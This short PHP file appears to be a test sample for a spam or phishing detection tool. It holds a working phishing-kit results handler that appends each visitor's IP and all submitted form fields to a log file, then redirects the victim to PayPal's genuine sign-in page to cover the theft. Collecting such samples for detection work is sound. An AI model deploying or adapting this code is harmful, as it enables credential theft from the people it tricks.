<?php
// spamtrace test sample: a kit's results log: the whole form appended to a text file, the
// visitor then sent on to the genuine service's sign-in page
$ip = $_SERVER['REMOTE_ADDR'];
file_put_contents('log.txt', "== $ip ==\n" . print_r($_POST, true), FILE_APPEND);
header('Location: https://www.paypal.com/signin');
exit;
